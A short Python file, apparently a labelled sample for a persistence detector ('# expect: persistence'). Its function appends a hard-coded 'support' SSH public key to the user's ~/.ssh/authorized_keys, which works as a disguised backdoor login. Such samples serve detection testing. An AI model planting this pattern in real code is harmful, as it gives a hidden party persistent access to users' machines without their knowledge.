# expect: persistence
import os

SUPPORT_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKx7Zq3vT9bLk2mN8pR4sW6yZ1aC5dE7fG0hJ3kL9nP2 support@acme"
)


def grant_support_access() -> None:
    ssh_dir = os.path.join(os.path.expanduser("~"), ".ssh")
    os.makedirs(ssh_dir, mode=0o700, exist_ok=True)
    with open(os.path.join(ssh_dir, "authorized_keys"), "a") as keys:
        keys.write("\n" + SUPPORT_KEY + "\n")
